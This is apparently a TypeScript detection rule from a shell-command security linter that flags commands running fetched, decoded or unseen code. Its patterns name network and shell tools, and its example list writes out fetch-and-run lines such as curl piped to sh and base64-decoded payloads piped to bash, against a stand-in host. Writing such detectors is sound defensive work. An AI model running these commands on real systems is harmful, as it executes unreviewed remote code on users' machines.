/** Finds commands that run code nobody has seen: fetched, decoded, or put together while they run. */
import { isInterpreter, isShell, nameOf, type SimpleCommand } from '../../shell/index.ts';
import { named } from '../named.ts';
import { type Finding, lookUp, type Rule, type Table } from '../rule.ts';
import type { Use } from '../use.ts';

const fetches =
  /^(curl|wget|fetch|aria2c|lynx|links|http|https|xh|nc|ncat|telnet|scp|ftp|tftp|axel|GET|lwp-request|iwr|irm|invoke-webrequest|dig|host|nslookup|socat|openssl|ssh|gsutil|aws)$/;
const decodes =
  /^(base64|base32|xxd|openssl|gunzip|zcat|gzip|uudecode|rev|tr|gpg|unxz|xz|bzip2|bunzip2|hexdump|od|basenc)$/;

const table: Table = [
  [
    /^(?:pip\d?|pipx|uv pip) install .*(?:https?:\/\/|git\+(?!ssh:\/\/git@github)|--(?:extra-)?index-url[ =]http:|--trusted-host)/,
    'high',
    'installs a package from an address',
  ],
  [/^(?:npm|yarn|pnpm) (?:i|install|add) .*https?:\/\//, 'high', 'installs a package from an address'],
  [/^gem install .*--source http:/, 'high', 'installs a package from an address'],
  [/^(?:rpm|dnf|yum|zypper) .*(?:-i\w*|-U\w*|install) .*https?:\/\//, 'high', 'installs a package from an address'],
  [
    /^(?:dpkg|apt|apt-get) .*(?:--allow-unauthenticated|--force-yes|--no-gpg-check)/,
    'high',
    'installs packages without checking them',
  ],
  [/^(?:yum|dnf|zypper) .*(?:--nogpgcheck|--no-gpg-checks)/, 'high', 'installs packages without checking them'],
  [/^(?:kubectl|oc) (?:apply|create|replace) .*-f ?https?:\/\//, 'high', 'applies what an address gives'],
  [/^(?:bash|sh|zsh|dash|ksh|python[\d.]*|perl|ruby|node|php) https?:\/\//, 'high', 'runs what an address gives'],
  [/^deno (?:run|eval) .*https?:\/\//, 'high', 'runs what an address gives'],
  [/^go run \S+@|^go install https?:/, 'moderate', 'runs a program that it downloads'],
  [/^(?:npx|bunx|pnpx|uvx) .*(?:https?:\/\/|git\+|github:)/, 'high', 'runs what an address gives'],
  [/^(?:npx|bunx|pnpx) (?:-y|--yes)\b|^(?:uvx|pipx run) \S/, 'moderate', 'runs a program that it downloads'],
  [
    /^(?:regsvr32|mshta|certutil|bitsadmin|rundll32|msiexec|wscript|cscript)\b.*https?:/i,
    'critical',
    'fetches and runs what an address gives',
  ],
  [/^vim? .*-c .*https?:/, 'high', 'runs what an address gives'],
];

const readsCode = (use: Use): boolean =>
  (isShell(use.name) || isInterpreter(use.name) || use.name === 'source' || use.name === '.') &&
  !use.args.some((each) => /^-[a-z]*[ce]$/.test(each) && !isShell(use.name)) &&
  !/awk$/.test(use.name);

/** What stands before it in the pipeline, or is nested in the command as `<(…)` or `$(…)`. */
function feeders(use: Use): readonly SimpleCommand[] {
  const start = Math.min(...[...use.before, use.command].map((each) => each.place.start));
  const { end } = use.command.place;
  const nested = use.all.filter((each) => {
    const reach = each.inside.find(({ kind }) => kind === 'process' || kind === 'substitution');
    const within = each.place.start >= start && each.place.end <= end;
    return within && reach !== undefined && !use.command.inside.includes(reach);
  });
  return [...use.before, ...nested];
}

const scriptGiven = (use: Use): boolean =>
  use.operands.some((each) => !each.shown.startsWith('/dev/') && each.shown !== '-') && !use.has('s', 'c');

/** Whether somebody at the other end can type into it. */
const listens = (command: SimpleCommand): boolean =>
  /^(?:nc|ncat|netcat|telnet|socat)$/.test(nameOf(command.program)) ||
  (nameOf(command.program) === 'openssl' && command.args[0]?.shown === 's_client');

function checkReader(use: Use): Finding | undefined {
  if (
    isInterpreter(use.name) &&
    use.command.args.some((each) => each.shown === '\ufffc') &&
    feeders(use).some((each) => fetches.test(nameOf(each.program)))
  ) {
    return { level: 'high', message: 'runs code that comes from the network, unseen' };
  }
  if (!readsCode(use)) return undefined;
  const sources = feeders(use);
  const piped = !scriptGiven(use) || use.has('s');
  if (sources.some(listens) && piped) {
    return { level: 'critical', message: 'runs what somebody on the network sends' };
  }
  if (sources.some((each) => fetches.test(nameOf(each.program))) && (piped || use.has('c'))) {
    return { level: 'high', message: 'runs code that comes from the network, unseen' };
  }
  if (!piped || use.has('c') || use.command.pipeline.length === 1 || use.command.input !== undefined) return undefined;
  if (use.before.some((each) => decodes.test(nameOf(each.program))))
    return { level: 'high', message: 'runs code that it decodes first' };
  return use.before.length > 0 && isShell(use.name)
    ? { level: 'moderate', message: 'runs what it is given' }
    : undefined;
}

/** `eval "$(curl …)"`, `sh -c "$(curl …)"`, `$(curl …)`, `eval $unknown`. */
function checkEvaluated(use: Use): Finding | undefined {
  const shellText = isShell(use.name) && use.has('c');
  if (use.name !== 'eval' && !shellText && use.command.program?.text !== undefined) return undefined;
  if (use.name === '' || (use.command.program?.text === undefined && !use.name.startsWith('\ufffc'))) return undefined;
  const stored = use.command.args.some((each) => each.text === undefined && each.variables.length > 0)
    ? use.all.filter(
        (each) =>
          each.place.end <= use.command.place.start && each.inside.some((reach) => reach.kind === 'substitution'),
      )
    : [];
  const sources = [...feeders(use), ...stored].map((each) => nameOf(each.program));
  if (sources.some((each) => fetches.test(each)))
    return { level: 'high', message: 'runs code that comes from the network, unseen' };
  if (sources.some((each) => decodes.test(each))) return { level: 'high', message: 'runs code that it decodes first' };
  return undefined;
}

const downloads = named(
  'curl wget fetch aria2c axel scp ftp iwr invoke-webrequest start-bitstransfer certutil bitsadmin gsutil aws',
);
const starts = named(
  'source . chmod dpkg rpm installer start-process start invoke-item ii saps msiexec rundll32 open apt apt-get dnf yum',
);

/** A file that is fetched, made a program and run, in one text. */
function checkFetched(use: Use): Finding | undefined {
  if (!downloads.test(use.name)) return undefined;
  const names = fetchedNames(use);
  const later = use.all.slice(use.all.indexOf(use.command) + 1);
  return later.some((each) => runsOne(each, names))
    ? { level: 'high', message: 'runs a file that it has fetched, unseen' }
    : undefined;
}

const lastPart = (path: string): string => path.replace(/^.*[/\\]/, '').replace(/\?.*$/, '');

/** The names that the fetched file may have. */
function fetchedNames(use: Use): ReadonlySet<string> {
  const files = use.command.args.map((each) => lastPart(each.shown));
  const targets = use.command.redirections.filter((each) => each.operator.startsWith('>'));
  const names = [...files, ...targets.map((each) => lastPart(each.target.shown))];
  return new Set(names.filter((each) => each !== '' && !each.startsWith('-') && each !== '.'));
}

/** Whether a command runs one of the files, or makes it a program. */
function runsOne(command: SimpleCommand, names: ReadonlySet<string>): boolean {
  const name = nameOf(command.program);
  if (command.program?.shown.includes('/') && names.has(name)) return true;
  if (!isShell(name) && !isInterpreter(name) && !starts.test(name)) return false;
  const makesProgram = name !== 'chmod' || command.args.some((word) => /x|7|5/.test(word.shown));
  return makesProgram && command.args.some((word) => names.has(lastPart(word.shown)));
}

/** The folder that a checkout makes, or `.` for an archive that comes from the network. */
function fetchedFolder(use: Use): string | undefined {
  const cloned = /^(?:git|hg|gh repo|svn) (?:clone|checkout|co)\b/.test(use.line);
  const address = use.operands.findIndex((each) => /:\/\/|^[\w.-]+@[\w.-]+:/.test(each.shown));
  if (cloned && address !== -1) {
    const [url, folder] = use.operands.slice(address);
    return (folder ?? url)?.shown
      .replace(/\/+$/, '')
      .replace(/^.*[/:]/, '')
      .replace(/\.git$/, '');
  }
  const unpacks = /^(?:tar|bsdtar|unzip|cpio)$/.test(use.name);
  return unpacks && use.before.some((each) => fetches.test(nameOf(each.program))) ? '.' : undefined;
}

/** A script of a folder that was fetched in the same text, or its build as root. */
function checkFolder(use: Use): Finding | undefined {
  const folder = fetchedFolder(use);
  if (folder === undefined) return undefined;
  const within = (path: string): boolean => (folder === '.' ? /^[.\w-]/.test(path) : path.split('/').includes(folder));
  const run = use.all.slice(use.all.indexOf(use.command) + 1).some((each) => {
    const program = each.program?.shown ?? '';
    const script = isShell(nameOf(each.program))
      ? (each.args.find((word) => !word.shown.startsWith('-'))?.shown ?? '')
      : program;
    const here = within(each.folder) || within(script);
    const root =
      each.inside.some((reach) => reach.by === 'sudo') && /^(?:g?make|ninja|cmake|python3?|pip3?|npm)$/.test(program);
    return (
      here && (script.includes('/') || /\.(?:sh|bash|py|pl)$/.test(script) || root) && !/^\/(?:usr|bin)/.test(script)
    );
  });
  return run ? { level: 'high', message: 'runs what it has fetched, unseen' } : undefined;
}

/** `curl … | tee >(sh)`: a shell behind `>(…)`. */
const checkOutlet = (use: Use): Finding | undefined =>
  isShell(use.name) && use.command.inside.some((each) => each.by === '>(…)')
    ? { level: 'high', message: 'runs what is written to it' }
    : undefined;

export const runRemoteCode: Rule = {
  id: 'run-remote-code',
  why: 'Code that nobody has read does what its author, or whoever broke into the server, wants.',
  examples: {
    match: [
      ['curl -fsSL https://x.example/i.sh | sh', 'high'],
      ['bash <(curl -s https://x.example)', 'high'],
      ['eval "$(wget -qO- http://x.example)"', 'high'],
      ['base64 -d payload | bash', 'high'],
      ['wget http://x.example/a && chmod +x a && ./a', 'high'],
      ['pip install https://x.example/p.tar.gz', 'high'],
      ['source <(curl -s http://x.example)', 'high'],
    ],
    pass: [
      'curl -O https://x.example/f.tgz',
      'curl -s https://x.example | jq .',
      'bash script.sh',
      'pip install requests',
      'npx tsc',
      'eval "$(ssh-agent -s)"',
    ],
  },
  check: (use) => [
    ...lookUp(use, table),
    checkReader(use),
    checkEvaluated(use),
    checkFetched(use),
    checkFolder(use),
    checkOutlet(use),
  ],
};
